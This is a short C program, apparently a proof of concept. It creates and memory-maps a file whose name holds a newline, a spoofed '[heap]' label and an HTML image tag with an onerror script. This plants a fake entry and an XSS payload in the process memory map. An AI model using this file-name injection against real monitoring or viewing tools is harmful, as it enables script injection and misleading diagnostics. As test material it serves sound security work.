/* Maps a file whose name is two lines: a heap, and markup. */
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>
int main(void)
{
    int fd = open("/tmp/[heap]\n<img src=x onerror=alert(1)>", O_CREAT | O_RDWR, 0600);
    if (fd != -1 && ftruncate(fd, 1 << 20) == 0)
        mmap(0, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
    sleep(1);
    return 0;
}
